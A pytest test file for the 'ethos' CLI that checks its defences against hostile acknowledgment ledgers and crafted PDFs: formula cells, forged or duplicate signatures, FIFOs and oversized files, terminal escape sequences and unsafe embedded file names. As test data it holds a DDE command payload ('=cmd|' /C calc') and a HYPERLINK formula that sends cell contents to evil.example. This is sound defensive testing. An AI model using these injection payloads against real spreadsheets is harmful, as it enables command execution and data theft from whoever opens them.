"""Hostile ledgers and PDFs (issue 13, classes 11, 12, 14 and 16): formula cells, forged
or duplicated signatures, escape sequences and unsafe names from a PDF, FIFOs, devices and
huge files, and malformed ledgers and manifests. Messages word for word, never a traceback.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfWriter

from ethos import build
from ethos.publish.acknowledge import COLUMNS, as_cell, from_cell, write_ledgers

from helpers import values_data, write_values

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def ethos(*arguments: object, cwd: Path, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The CLI in a child process, so a read that blocks fails the test instead of hanging."""
    return subprocess.run(
        [sys.executable, "-m", "ethos", *map(str, arguments)],
        cwd=cwd, capture_output=True, text=True, timeout=timeout, check=False,
        env={**os.environ, "COLUMNS": "400"},
    )  # fmt: skip


# --- Acknowledgment ledgers -------------------------------------------------------------


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A company whose name a spreadsheet would run, its built PDF and its empty ledgers."""
    root = tmp_path_factory.mktemp("shop")
    company = {"name": FORMULA, "ethics_contact": {"email": "ethics@test.example"}}
    source = write_values(root, values_data(company=company))
    out = root / "out"
    (pdf,) = build(source, formats=["pdf"], out_dir=out).outputs
    csv_ledger, json_ledger = write_ledgers(
        source, languages=["en"], out_dir=out, formats=["csv", "json"]
    )
    digest = hashlib.sha256(pdf.read_bytes()).hexdigest()
    return {"root": root, "source": source, "out": out, "pdf": pdf, "digest": digest,
            "csv": csv_ledger, "json": json_ledger}  # fmt: skip


def document_cells(shop: dict[str, Any]) -> list[str]:
    return [as_cell(FORMULA), "Code of Ethics and Conduct", "1.0", "2026-02-01", "en",
            "ethics-code.en.pdf", shop["digest"]]  # fmt: skip


def ledger(shop: dict[str, Any], name: str, *employees: list[str], edit: Any = None) -> Path:
    """A filled-in CSV ledger: the header, then one row per employee (name, id, position,
    date, signature) with the document columns as ethos wrote them, changed by ``edit``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMNS)
    for employee in employees:
        row = [*document_cells(shop), *employee]
        if edit:
            edit(row)
        writer.writerow(row)
    path: Path = shop["root"] / name
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def verify(shop: dict[str, Any], path: Path) -> subprocess.CompletedProcess[str]:
    return ethos("acknowledge", shop["source"], "--out", shop["out"], "--verify", path,
                 cwd=shop["root"])  # fmt: skip


ANN = ["Ann Lee", "E1", "Clerk", "2026-02-03", "Ann Lee"]
BOB = ["Bob Ray", "E2", "Clerk", "2026-02-03", "Bob Ray"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_written_with_an_apostrophe(start: str) -> None:
    assert as_cell(f"{start}1+1") == f"'{start}1+1"
    assert from_cell(as_cell(f"{start}1+1")) == f"{start}1+1"
    assert as_cell("Acme") == "Acme" and from_cell("'Acme") == "'Acme"


def test_the_written_ledger_keeps_a_formula_company_name_as_text(shop: dict[str, Any]) -> None:
    rows = list(csv.reader(shop["csv"].open(encoding="utf-8")))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert json.loads(shop["json"].read_text())["document"]["company"] == FORMULA


def test_verify_accepts_a_good_ledger(shop: dict[str, Any]) -> None:
    result = verify(shop, ledger(shop, "good.csv", ANN, BOB))
    assert result.returncode == 0, result.stderr
    assert (
        result.stdout
        == f"good.csv: every signature names ethics-code.en.pdf ({shop['digest'][:12]}…)\n"
    )


def test_verify_reports_cells_a_spreadsheet_would_run(shop: dict[str, Any]) -> None:
    evil = [HYPERLINK, "E3", "@SUM(1+1)", "2026-02-03", "\tx"]
    result = verify(shop, ledger(shop, "formula.csv", ANN, evil))
    assert result.returncode == 1
    assert result.stderr == (
        'formula.csv:3:1: employee_name: \'=HYPERLINK("http://evil.example/?"&A2,"C…\' starts '
        "with '=', which a spreadsheet runs as a formula — write an apostrophe before it, as "
        "ethos does, so it stays text\n"
        "formula.csv:3:1: position: '@SUM(1+1)' starts with '@', which a spreadsheet runs as a "
        "formula — write an apostrophe before it, as ethos does, so it stays text\n"
        "formula.csv:3:1: signature: '\\tx' starts with '\\t', which a spreadsheet runs as a "
        "formula — write an apostrophe before it, as ethos does, so it stays text\n"
        "3 problems found.\n"
    )


def test_verify_reports_an_unescaped_company_cell(shop: dict[str, Any]) -> None:
    def unescape(row: list[str]) -> None:
        row[0] = FORMULA

    result = verify(shop, ledger(shop, "raw.csv", ANN, edit=unescape))
    assert result.returncode == 1
    assert result.stderr.startswith(
        "raw.csv:2:1: company: \"=cmd|' /C calc'!A0\" starts with '=', which a spreadsheet "
    )


def test_verify_reports_a_signer_who_signed_twice(shop: dict[str, Any]) -> None:
    again = ["ann  LEE", "", "Clerk", "2026-02-04", "A. Lee"]  # same name, no id
    result = verify(shop, ledger(shop, "twice.csv", ANN, BOB, ANN, again))
    assert result.returncode == 1
    assert result.stderr == (
        "twice.csv:4:1: employee_id: 'E1' signed twice for version 1.0 (first at line 2) — "
        "keep one row per employee\n"
        "twice.csv:5:1: employee_name: 'ann  LEE' signed twice for version 1.0 (first at "
        "line 2) — keep one row per employee\n"
        "2 problems found.\n"
    )


def test_two_employees_with_one_name_and_two_ids_are_two_signers(shop: dict[str, Any]) -> None:
    other_ann = ["Ann Lee", "E9", "Driver", "2026-02-03", "Ann Lee"]
    assert verify(shop, ledger(shop, "namesakes.csv", ANN, other_ann)).returncode == 0


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [(0, "Evil Corp", repr(FORMULA)), (2, "9.9", "'1.0'"), (4, "it", "'en'")],
)
def test_verify_reports_an_edited_document_column(
    shop: dict[str, Any], column: int, value: str, expected: str
) -> None:
    def change(row: list[str]) -> None:
        row[column] = value

    result = verify(shop, ledger(shop, "edited.csv", ANN, edit=change))
    assert result.returncode == 1
    assert result.stderr == (
        f"edited.csv:2:1: {COLUMNS[column]}: says {value!r}, but ethics-code.en.pdf has "
        f"{expected} — a signature must repeat the document columns exactly as ethos wrote "
        "them\n1 problem found.\n"
    )


def test_verify_reports_a_forged_fingerprint(shop: dict[str, Any]) -> None:
    def forge(row: list[str]) -> None:
        row[6] = "0" * 64

    result = verify(shop, ledger(shop, "forged.csv", ANN, edit=forge))
    assert result.returncode == 1
    assert result.stderr == (
        f"forged.csv:2:1: pdf_sha256: signed 000000000000…, but ethics-code.en.pdf is "
        f"{shop['digest'][:12]}… — this signature is for another version of the chapter\n"
        "1 problem found.\n"
    )


@pytest.mark.parametrize("rows", [0, 1])
def test_a_ledger_without_signatures_is_an_error(shop: dict[str, Any], rows: int) -> None:
    path = shop["root"] / "empty.csv"
    path.write_text("".join(shop["csv"].read_text().splitlines(keepends=True)[: rows + 1]))
    result = verify(shop, path)
    assert result.returncode == 1
    assert result.stderr == (
        "empty.csv: no signatures — add a row for each employee who signed (copy the "
        "example row)\n1 problem found.\n"
    )


def test_a_json_ledger_is_checked_like_a_csv_one(shop: dict[str, Any]) -> None:
    data = json.loads(shop["json"].read_text())
    empty = shop["root"] / "empty.json"
    empty.write_text(json.dumps(data))
    assert "empty.json: no signatures" in verify(shop, empty).stderr
    data["document"]["version"] = "9.9"
    ann = dict(zip(COLUMNS[7:], ANN, strict=True))
    data["acknowledgments"] = [ann, dict(ann, employee_name="Ann B. Lee")]
    edited = shop["root"] / "edited.json"
    edited.write_text(json.dumps(data))
    result = verify(shop, edited)
    assert result.returncode == 1
    assert result.stderr == (
        "edited.json: acknowledgments[1].employee_id: 'E1' signed twice for version 1.0 "
        "(first at acknowledgments[0]) — keep one row per employee\n"
        "edited.json: document.version: says '9.9', but ethics-code.en.pdf has '1.0' — a "
        "signature must repeat the document columns exactly as ethos wrote them\n"
        "2 problems found.\n"
    )


def test_a_tampered_pdf_with_a_forged_manifest_fails_every_signature(
    shop: dict[str, Any], tmp_path: Path
) -> None:
    """The tampered PDF's fingerprint is written into manifest.json: the signatures in the
    ledger still name the PDF that was signed, which is no longer there."""
    out = tmp_path / "out"
    subprocess.run(["cp", "-a", str(shop["out"]), str(out)], check=True)
    pdf = out / shop["pdf"].parent.name / shop["pdf"].name
    pdf.write_bytes(pdf.read_bytes() + b"%tampered\n")
    manifest_path = pdf.parent / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["outputs"][pdf.name]["sha256"] = hashlib.sha256(pdf.read_bytes()).hexdigest()
    manifest_path.write_text(json.dumps(manifest))
    signed = ledger(shop, "signed.csv", ANN)
    result = ethos("acknowledge", shop["source"], "--out", out, "--verify", signed,
                   cwd=shop["root"])  # fmt: skip
    assert result.returncode == 1
    assert "signed.csv:2:1: pdf_sha256: signed " in result.stderr
    assert "this signature is for another version of the chapter" in result.stderr


def test_a_pdf_built_from_another_version_of_the_values_file_is_refused(
    shop: dict[str, Any], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    subprocess.run(["cp", "-a", str(shop["out"]), str(out)], check=True)
    changed = write_values(
        tmp_path, values_data(company={"name": FORMULA, "ethics_contact": {"email": "e@x.example"}})
    )
    result = ethos("acknowledge", changed, "--out", out, "--verify", shop["csv"], cwd=tmp_path)
    assert result.returncode == 1
    pdf = out / shop["pdf"].parent.name / "ethics-code.en.pdf"
    assert result.stderr == (
        f"error: {pdf} was built from another version of {changed} — rebuild it with ethos "
        f"build {changed} --force, so the ledger names a known file\n"
    )


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("Ann Lée".encode("latin-1"), "bad.csv:2:{col}: not valid UTF-8 (Latin-1 or another "
         "encoding?) — save it as UTF-8 (in a spreadsheet: CSV UTF-8)"),
        ("utf-16", "bad.csv:1:1: the ledger is UTF-16 text — save it as UTF-8 (in a "
         "spreadsheet: CSV UTF-8)"),
    ],
)  # fmt: skip
def test_a_ledger_in_another_encoding_is_a_message(
    shop: dict[str, Any], content: bytes | str, expected: str
) -> None:
    text = shop["csv"].read_text()
    if content == "utf-16":
        raw = text.encode("utf-16")
    else:
        assert isinstance(content, bytes)
        first, rest = text.split("\n", 1)
        raw = (first + "\n").encode() + content + rest.encode()
    path = shop["root"] / "bad.csv"
    path.write_bytes(raw)
    result = verify(shop, path)
    assert result.returncode == 1
    assert result.stderr == expected.format(col=6) + "\n1 problem found.\n"
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"document": ' * 5000 + "1" + "}" * 5000, "nested too deeply"),
        ("[1, 2]", "it needs a document object and an acknowledgments list"),
        ('{"document": {}, "acknowledgments": [1]}', "each acknowledgment must be an object"),
    ],
)
def test_a_json_ledger_that_is_no_ledger_is_a_message(
    shop: dict[str, Any], text: str, why: str
) -> None:
    path = shop["root"] / "odd.json"
    path.write_text(text)
    result = verify(shop, path)
    assert result.returncode == 1
    assert (
        result.stderr
        == f"odd.json:1:1: not an ethos acknowledgment ledger ({why})\n1 problem found.\n"
    )


def test_a_csv_without_the_ledger_columns_is_a_message(shop: dict[str, Any]) -> None:
    path = shop["root"] / "other.csv"
    path.write_text("name,id\nAnn,1\n")
    result = verify(shop, path)
    assert (result.returncode, result.stderr) == (
        1,
        "other.csv:1:1: not an ethos acknowledgment ledger (its first row lacks the column "
        "company)\n1 problem found.\n",
    )


# --- Files that are not files, and files too big to read -------------------------------


def special_files(tmp_path: Path) -> dict[str, tuple[Path, str]]:
    """Paths that must be refused at once, with the reason each is refused for."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    sparse = tmp_path / "sparse"
    with sparse.open("wb") as file:
        file.truncate(2 * 1024**3)  # 2 GiB of nothing, in no disk space
    return {
        "fifo": (fifo, "not a file (a FIFO)"),
        "zero": (Path("/dev/zero"), "not a file (a character device)"),
        "sparse": (sparse, "file is 2,147,483,648 bytes, over the"),
    }


@pytest.mark.parametrize("name", ["fifo", "zero", "sparse"])
def test_extract_refuses_what_is_no_regular_file_or_too_big_at_once(
    tmp_path: Path, name: str
) -> None:
    path, reason = special_files(tmp_path)[name]
    started = time.monotonic()
    result = ethos("extract", path, "--list", cwd=tmp_path, timeout=30)
    assert time.monotonic() - started < 15
    assert result.returncode == (1 if name == "sparse" else 2)
    assert reason in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("name", ["fifo", "zero", "sparse"])
def test_verify_refuses_a_ledger_that_is_no_regular_file_or_too_big_at_once(
    shop: dict[str, Any], tmp_path: Path, name: str
) -> None:
    path, reason = special_files(tmp_path)[name]
    started = time.monotonic()
    result = ethos("acknowledge", shop["source"], "--out", shop["out"], "--verify", path,
                   cwd=tmp_path, timeout=30)  # fmt: skip
    assert time.monotonic() - started < 15
    assert result.returncode == (1 if name == "sparse" else 2)
    assert reason in result.stderr and "Traceback" not in result.stderr


def test_exact_messages_for_special_files(tmp_path: Path) -> None:
    files = special_files(tmp_path)
    assert ethos("extract", "fifo", cwd=tmp_path, timeout=30).stderr == (
        "error: fifo: not a file (a FIFO) — give the path of a PDF\n"
    )
    assert ethos("extract", "sparse", cwd=tmp_path, timeout=30).stderr == (
        "sparse:1:1: file is 2,147,483,648 bytes, over the 209,715,200-byte limit — a chapter "
        "PDF is a few megabytes\n1 problem found.\n"
    )
    assert ethos("check", files["fifo"][0], cwd=tmp_path, timeout=30).stderr == (
        f"error: {files['fifo'][0]}: not a file (a FIFO) — give the path of a values file\n"
    )


def test_a_fifo_as_manifest_json_counts_as_no_manifest(
    shop: dict[str, Any], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    subprocess.run(["cp", "-a", str(shop["out"]), str(out)], check=True)
    manifest = out / shop["pdf"].parent.name / "manifest.json"
    manifest.unlink()
    os.mkfifo(manifest)
    result = ethos("acknowledge", shop["source"], "--out", out, "--verify", shop["csv"],
                   cwd=tmp_path, timeout=30)  # fmt: skip
    assert result.returncode == 1
    assert "is not the PDF ethos built (not in manifest.json, or changed since)" in result.stderr


# --- extract: what a crafted PDF carries -----------------------------------------------


def crafted_pdf(
    path: Path,
    files: dict[str, bytes],
    manifest: dict[str, Any] | None = None,
    change: Callable[[PdfWriter], None] | None = None,
) -> Path:
    """A one-page PDF carrying ``files`` and an ethos manifest that lists them."""
    listed = [{"name": name, "path": name, "role": "values file",
               "sha256": hashlib.sha256(data).hexdigest()} for name, data in files.items()]  # fmt: skip
    recorded = {"format": 1, "generator": "ethos 0.1.0", "source": "shop.yaml", "language": "en",
                "pdf_variant": "pdf/a-3b", "files": listed, **(manifest or {})}  # fmt: skip
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_attachment("ethos-manifest.json", json.dumps(recorded).encode())
    for name, data in files.items():
        writer.add_attachment(name, data)
    if change:
        change(writer)
    writer.write(path)
    return path


def test_extract_list_escapes_what_the_pdf_says(tmp_path: Path) -> None:
    pdf = crafted_pdf(
        tmp_path / "escapes.pdf",
        {"shop.yaml": b"ethos: 1\n"},
        {"generator": "\x1b]0;owned\x07\x1b[2J", "source": "a\u202eb", "language": "\r\n"},
    )
    result = ethos("extract", pdf, "--list", cwd=tmp_path)
    assert result.returncode == 0
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert result.stdout.splitlines()[0] == (
        "escapes.pdf: built by \\x1b]0;owned\\x07\\x1b[2J from a\\u202eb (\\r\\n, pdf/a-3b)"
    )


def test_extract_escapes_a_role_from_the_pdf(tmp_path: Path) -> None:
    data = b"ethos: 1\n"
    role = {"name": "shop.yaml", "role": "\x1b[31mred", "sha256": hashlib.sha256(data).hexdigest()}
    pdf = crafted_pdf(tmp_path / "role.pdf", {"shop.yaml": data}, {"files": [role]})
    result = ethos("extract", pdf, "--list", cwd=tmp_path)
    assert result.stdout.splitlines()[2] == "shop.yaml  \\x1b[31mred, 9 bytes"


@pytest.mark.parametrize(
    "name",
    ["shop.yaml\n", "shop\n.yaml", " shop.yaml", "shop.yaml ", "CON.yaml", "nul", "a/b.yaml",
     "..", ".hidden", "shop.yaml.", "sh\x1bop.yaml", "sh\u202eop.yaml", "a\\b.yaml"],
)  # fmt: skip
def test_extract_refuses_an_unsafe_name(tmp_path: Path, name: str) -> None:
    pdf = crafted_pdf(tmp_path / "names.pdf", {name: b"ethos: 1\n"})
    result = ethos("extract", pdf, "--out", tmp_path / "x", cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr == (
        f"names.pdf: the manifest names an unsafe file name {name!r}\n1 problem found.\n"
    )
    assert not (tmp_path / "x").exists()


def test_extract_keeps_a_name_in_another_script(tmp_path: Path) -> None:
    pdf = crafted_pdf(tmp_path / "zh.pdf", {"公司.yaml": b"ethos: 1\n"})
    result = ethos("extract", pdf, "--out", tmp_path / "x", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "x" / "公司.yaml").read_bytes() == b"ethos: 1\n"


@pytest.mark.parametrize("password", ["", "secret"])
def test_extract_refuses_an_encrypted_pdf(tmp_path: Path, password: str) -> None:
    def encrypt(writer: PdfWriter) -> None:
        writer.encrypt(password, "owner", algorithm="RC4-128")

    pdf = crafted_pdf(tmp_path / "locked.pdf", {"shop.yaml": b"ethos: 1\n"}, change=encrypt)
    result = ethos("extract", pdf.name, cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        2,
        "error: locked.pdf: encrypted — ethos never encrypts the PDFs it builds; give the PDF "
        "as ethos built it\n",
    )


def test_extract_into_a_file_is_a_usage_error(tmp_path: Path) -> None:
    pdf = crafted_pdf(tmp_path / "ok.pdf", {"shop.yaml": b"ethos: 1\n"})
    (tmp_path / "taken").write_text("mine")
    result = ethos("extract", pdf, "-o", "taken", cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        2,
        "error: taken: not a directory — give --out the directory to extract into\n",
    )
    assert (tmp_path / "taken").read_text() == "mine"


def test_extract_never_reads_a_fifo_in_the_way(tmp_path: Path) -> None:
    pdf = crafted_pdf(tmp_path / "ok.pdf", {"shop.yaml": b"ethos: 1\n"})
    (tmp_path / "x").mkdir()
    os.mkfifo(tmp_path / "x" / "shop.yaml")
    result = ethos("extract", pdf, "-o", "x", cwd=tmp_path, timeout=30)
    assert result.returncode == 1
    assert "shop.yaml already exists with other contents; nothing was written" in result.stderr


def test_extract_reports_a_deeply_nested_manifest(tmp_path: Path) -> None:
    pdf = tmp_path / "deep.pdf"
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_attachment("ethos-manifest.json", b"[" * 100_000 + b"]" * 100_000)
    writer.write(pdf)
    result = ethos("extract", pdf, cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        1,
        "deep.pdf: the embedded ethos-manifest.json is damaged (nested too deeply)\n"
        "1 problem found.\n",
    )


def test_extract_refuses_a_manifest_that_lists_too_many_files(tmp_path: Path) -> None:
    pdf = crafted_pdf(tmp_path / "many.pdf", {f"f{n}.yaml": b"ethos: 1\n" for n in range(7)})
    result = ethos("extract", pdf, "--list", cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        1,
        "many.pdf: the manifest lists 7 files; an ethos build embeds at most 6 (a values file "
        "and its group files)\n1 problem found.\n",
    )


def test_extract_refuses_an_embedded_file_too_big_for_a_values_file(tmp_path: Path) -> None:
    pdf = crafted_pdf(tmp_path / "big.pdf", {"shop.yaml": b"#" * (1024 * 1024 + 1)})
    result = ethos("extract", pdf, "--list", cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        1,
        "big.pdf: shop.yaml is over 1,048,576 bytes, too big for a values file\n1 problem found.\n",
    )


def test_a_signature_names_who_signed(shop: dict[str, Any]) -> None:
    anonymous = ["", "", "Clerk", "2026-02-03", "x"]
    result = verify(shop, ledger(shop, "anonymous.csv", ANN, anonymous))
    assert (result.returncode, result.stderr) == (
        1,
        "anonymous.csv:3:1: employee_name: a signature without the employee's name or id — "
        "fill in who signed\n1 problem found.\n",
    )


@pytest.mark.parametrize("command", ["write", "verify"])
def test_acknowledge_refuses_a_fifo_in_place_of_the_pdf(
    shop: dict[str, Any], tmp_path: Path, command: str
) -> None:
    out = tmp_path / "out"
    subprocess.run(["cp", "-a", str(shop["out"]), str(out)], check=True)
    pdf = out / shop["pdf"].parent.name / shop["pdf"].name
    pdf.unlink()
    os.mkfifo(pdf)
    verifying = ["--verify", shop["csv"]] if command == "verify" else []
    result = ethos(
        "acknowledge", shop["source"], "--out", out, *verifying, cwd=tmp_path, timeout=30
    )
    assert (result.returncode, result.stderr) == (
        2,
        f"error: {pdf}: not a file (a FIFO) — give the path of a PDF\n",
    )
